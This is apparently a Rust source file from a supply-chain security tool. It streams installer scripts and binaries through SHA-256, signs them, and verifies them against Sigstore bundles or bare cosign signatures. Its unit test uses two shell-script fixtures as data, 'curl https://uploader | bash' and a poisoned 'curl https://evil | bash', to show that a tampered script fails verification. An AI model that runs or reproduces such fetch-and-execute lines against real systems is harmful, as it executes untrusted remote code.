//! Blobs (installer scripts, tarballs, binaries): signed and verified by their SHA-256,
//! streamed, so that memory does not grow with the file. This is the Codecov case: a
//! poisoned uploader script is caught before it runs.
//!
//! The signature is a Sigstore bundle with a `messageSignature` (what `cosign sign-blob`
//! writes), or a bare base64 signature (cosign's `--output-signature`).

use std::io::Read;
use std::sync::Arc;

use base64ct::{Base64, Encoding};

use crate::bundle::Bundle;
use crate::digest::{Algorithm, Digest, Hasher};
use crate::keys::{KeyError, SigningKey};
use crate::report::{Decision, Finding, Rejection};
use crate::sigstore::certificate::Identity;
use crate::sigstore::identity::IdentityPolicy;
use crate::sigstore::root::TrustedRoot;
use crate::sigstore::verify::{
    LogRecord, Options, Refusal, SignedBy, Signer, Verified, VerifiedTime,
};
use crate::trust::NamedKey;

const READ_BUF: usize = 1 << 20;

/// A blob's SHA-256 and size, measured in one streaming pass (or only known by its digest).
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
#[non_exhaustive]
pub struct Measured {
    /// `sha256:<hex>` of the bytes.
    pub digest: Digest,
    /// Bytes read; `None` for a blob known only by its digest.
    pub size: Option<u64>,
}

impl Measured {
    /// A blob known only by its SHA-256 digest (`verify-blob sha256:<hex>`).
    pub fn of_digest(digest: Digest) -> Option<Self> {
        (digest.algorithm() == Algorithm::Sha256).then_some(Self { digest, size: None })
    }

    /// The SHA-256 itself (every blob is measured, or named, with SHA-256).
    pub fn sha256(&self) -> [u8; 32] {
        self.digest
            .to_bytes()
            .try_into()
            .expect("measure() hashes with SHA-256")
    }
}

/// Hashes everything `r` yields.
pub fn measure(mut r: impl Read) -> std::io::Result<Measured> {
    let mut h = Hasher::new(Algorithm::Sha256);
    let mut buf = vec![0u8; READ_BUF];
    loop {
        let n = match r.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => n,
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
            Err(e) => return Err(e),
        };
        h.update(&buf[..n]);
    }
    let size = h.len();
    Ok(Measured {
        digest: h.finish(),
        size: Some(size),
    })
}

/// A signed blob: the bundle, and the bare signature inside it.
#[non_exhaustive]
pub struct BlobSignature {
    /// The Sigstore bundle (v0.3, message signature), as `cosign sign-blob` writes it.
    pub bundle: Vec<u8>,
    /// The raw signature (DER).
    pub signature: Vec<u8>,
}

impl BlobSignature {
    /// The bare signature as cosign's `--output-signature` writes it: base64.
    pub fn signature_base64(&self) -> String {
        Base64::encode_string(&self.signature)
    }
}

/// Signs a measured blob with `key` (ECDSA P-256; Ed25519 cannot sign by digest). The
/// same blob signed again gives the same signature (RFC 6979).
pub fn sign(blob: &Measured, key: &SigningKey, what: &str) -> Result<BlobSignature, KeyError> {
    let sha256 = blob.sha256();
    let signature = key.sign_prehashed(&sha256, what)?;
    Ok(message_bundle(sha256, signature, key))
}

/// Signs a measured blob as [`sign`] does, hedged ([`SigningKey::sign_hedged`]): a new
/// signature each time, for a signature that is to be logged, since a transparency log
/// refuses an entry it already holds.
pub fn sign_hedged(
    blob: &Measured,
    key: &SigningKey,
    what: &str,
) -> Result<BlobSignature, KeyError> {
    let sha256 = blob.sha256();
    let signature = key.sign_prehashed_hedged(&sha256, what)?;
    Ok(message_bundle(sha256, signature, key))
}

fn message_bundle(sha256: [u8; 32], signature: Vec<u8>, key: &SigningKey) -> BlobSignature {
    let bundle =
        Bundle::for_message(&sha256, &signature, &key.public_key().bundle_hint()).to_bytes();
    BlobSignature { bundle, signature }
}

/// What a blob is verified against.
#[derive(Debug, Clone, Copy)]
pub enum Proof<'a> {
    /// A Sigstore bundle's bytes.
    Bundle(&'a [u8]),
    /// A bare base64 signature's text.
    Signature(&'a [u8]),
}

/// What makes a blob's signature count.
#[derive(Debug, Clone, Copy)]
#[non_exhaustive]
pub struct BlobTrust<'a> {
    /// Keys, any one of which suffices (key-based bundles, bare signatures).
    pub keys: &'a [NamedKey],
    /// The certificate identity a keyless bundle must carry.
    pub identity: Option<&'a IdentityPolicy>,
    /// The trusted root for certificates, logs and timestamps.
    pub root: &'a TrustedRoot,
    /// Skip transparency-log entries (`--insecure-ignore-tlog`).
    pub ignore_tlog: bool,
}

impl<'a> BlobTrust<'a> {
    /// Any one of `keys`, no keyless identity, every transparency-log entry checked.
    pub fn new(keys: &'a [NamedKey], root: &'a TrustedRoot) -> Self {
        BlobTrust {
            keys,
            identity: None,
            root,
            ignore_tlog: false,
        }
    }
}

/// The outcome of a blob verification: like an image's [`Report`](crate::report::Report),
/// made only here and read through accessors.
#[derive(Debug, Clone)]
pub struct BlobReport {
    blob: Measured,
    decision: Decision,
    key: Option<String>,
    identity: Option<Identity>,
    format: &'static str,
    tlog: Vec<LogRecord>,
    times: Vec<VerifiedTime>,
    checks: Vec<String>,
    findings: Vec<Finding>,
    notes: Vec<String>,
}

impl BlobReport {
    /// The blob's digest and size.
    pub fn blob(&self) -> &Measured {
        &self.blob
    }

    /// What was decided.
    pub fn decision(&self) -> &Decision {
        &self.decision
    }

    /// Whether the signature verified.
    pub fn verified(&self) -> bool {
        matches!(self.decision, Decision::Verified)
    }

    /// The key that verified it.
    pub fn key(&self) -> Option<&str> {
        self.key.as_deref()
    }

    /// The certificate identity that verified it (keyless).
    pub fn identity(&self) -> Option<&Identity> {
        self.identity.as_ref()
    }

    /// `bundle` or `signature`.
    pub fn format(&self) -> &'static str {
        self.format
    }

    /// Transparency-log entries verified.
    pub fn tlog(&self) -> &[LogRecord] {
        &self.tlog
    }

    /// Verified times (log promises, timestamps).
    pub fn times(&self) -> &[VerifiedTime] {
        &self.times
    }

    /// The checks made, in order.
    pub fn checks(&self) -> &[String] {
        &self.checks
    }

    /// Why the signature did not count.
    pub fn findings(&self) -> &[Finding] {
        &self.findings
    }

    /// Why not, or what was not checked, one line each.
    pub fn error_lines(&self) -> Vec<String> {
        self.findings
            .iter()
            .map(ToString::to_string)
            .chain(self.notes.iter().cloned())
            .collect()
    }
}

/// The JSON document of a blob verification, as it has always been written.
impl serde::Serialize for BlobReport {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        #[derive(serde::Serialize)]
        struct Wire<'a> {
            #[serde(flatten)]
            blob: &'a Measured,
            verified: bool,
            key: Option<&'a str>,
            #[serde(skip_serializing_if = "Option::is_none")]
            identity: Option<&'a Identity>,
            format: &'static str,
            #[serde(skip_serializing_if = "<[_]>::is_empty")]
            tlog: &'a [LogRecord],
            #[serde(skip_serializing_if = "<[_]>::is_empty")]
            times: &'a [VerifiedTime],
            checks: &'a [String],
            errors: Vec<String>,
        }
        Wire {
            blob: &self.blob,
            verified: self.verified(),
            key: self.key.as_deref(),
            identity: self.identity.as_ref(),
            format: self.format,
            tlog: &self.tlog,
            times: &self.times,
            checks: &self.checks,
            errors: self.error_lines(),
        }
        .serialize(serializer)
    }
}

/// Judges a measured blob against a bundle or bare signature.
pub fn verify(blob: &Measured, proof: Proof<'_>, trust: &BlobTrust<'_>) -> BlobReport {
    let mut report = BlobReport {
        blob: blob.clone(),
        decision: Decision::Rejected,
        key: None,
        identity: None,
        format: "bundle",
        tlog: Vec::new(),
        times: Vec::new(),
        checks: Vec::new(),
        findings: Vec::new(),
        notes: Vec::new(),
    };
    match proof {
        Proof::Bundle(bytes) => match check_bundle(blob, bytes, trust) {
            Ok(v) => {
                report.decision = Decision::Verified;
                match v.signed_by {
                    SignedBy::Key { index } => report.key = Some(trust.keys[index].name.clone()),
                    SignedBy::Certificate(id) => report.identity = Some(*id),
                }
                report.tlog = v.tlog;
                report.times = v.times;
                report.checks = v.checks;
                report.notes = v.notes;
            }
            Err(why) => report
                .findings
                .push(Finding::artifact(Rejection::Sigstore(Arc::new(why)))),
        },
        Proof::Signature(text) => {
            report.format = "signature";
            match check_signature(blob, text, trust.keys) {
                Ok(key) => {
                    report.decision = Decision::Verified;
                    report.key = Some(key.name.clone());
                    report.checks.push("signature over the artifact".into());
                }
                Err(why) => report.findings.push(Finding::artifact(why)),
            }
        }
    }
    report
}

fn signed_by<'k>(
    blob: &Measured,
    signature: &[u8],
    keys: &'k [NamedKey],
) -> Result<&'k NamedKey, Rejection> {
    let sha256 = blob.sha256();
    keys.iter()
        .find(|k| k.key.verify_prehashed(&sha256, signature) == Some(true))
        .ok_or(
            if keys
                .iter()
                .all(|k| k.key.verify_prehashed(&sha256, b"").is_none())
            {
                Rejection::BlobNeedsDigestKey
            } else {
                Rejection::NoTrustedKey
            },
        )
}

fn check_bundle(blob: &Measured, bytes: &[u8], trust: &BlobTrust<'_>) -> Result<Verified, Refusal> {
    let b = Bundle::parse(bytes)?;
    let keys: Vec<_> = trust.keys.iter().map(|k| k.key.clone()).collect();
    let signer = match trust.identity {
        Some(policy) => Signer::Identity(policy),
        None => Signer::Keys(&keys),
    };
    crate::sigstore::verify::verify(
        &b,
        &blob.sha256(),
        signer,
        trust.root,
        Options {
            ignore_tlog: trust.ignore_tlog,
        },
    )
}

fn check_signature<'k>(
    blob: &Measured,
    text: &[u8],
    keys: &'k [NamedKey],
) -> Result<&'k NamedKey, Rejection> {
    let text = std::str::from_utf8(text).unwrap_or_default().trim();
    let signature = Base64::decode_vec(text)
        .map_err(|_| Rejection::Layer(crate::signature::LayerProblem::NotBase64))?;
    signed_by(blob, &signature, keys)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::keys::Algorithm as KeyAlgorithm;

    fn named(k: &SigningKey) -> Vec<NamedKey> {
        vec![NamedKey {
            name: "k.pub".into(),
            key: k.public_key(),
        }]
    }

    fn verify(file: &Measured, proof: Proof<'_>, keys: &[NamedKey]) -> BlobReport {
        let root = TrustedRoot::production();
        super::verify(
            file,
            proof,
            &BlobTrust {
                keys,
                identity: None,
                root: &root,
                ignore_tlog: false,
            },
        )
    }

    #[test]
    fn sign_then_verify_and_every_way_it_must_fail() {
        let k = SigningKey::generate(KeyAlgorithm::EcdsaP256).unwrap();
        let file = measure(&b"#!/bin/sh\ncurl https://uploader | bash\n"[..]).unwrap();
        let signed = sign(&file, &k, "k").unwrap();
        assert!(verify(&file, Proof::Bundle(&signed.bundle), &named(&k)).verified());
        let b64 = Base64::encode_string(&signed.signature);
        assert!(verify(&file, Proof::Signature(b64.as_bytes()), &named(&k)).verified());

        let poisoned = measure(&b"#!/bin/sh\ncurl https://evil | bash\n"[..]).unwrap();
        let r = verify(&poisoned, Proof::Bundle(&signed.bundle), &named(&k));
        assert!(
            !r.verified() && r.error_lines()[0].contains("for another file"),
            "{r:?}"
        );
        assert!(!verify(&poisoned, Proof::Signature(b64.as_bytes()), &named(&k)).verified());
        let other = SigningKey::generate(KeyAlgorithm::EcdsaP256).unwrap();
        let r = verify(&file, Proof::Bundle(&signed.bundle), &named(&other));
        assert!(
            !r.verified() && r.error_lines()[0].contains("not signed by"),
            "{r:?}"
        );

        let empty = measure(&b""[..]).unwrap();
        assert_eq!(empty.digest, Digest::sha256(b""));
        let e = sign(&empty, &k, "k").unwrap();
        assert!(verify(&empty, Proof::Bundle(&e.bundle), &named(&k)).verified());
        assert!(!verify(&file, Proof::Bundle(&e.bundle), &named(&k)).verified());
    }
}
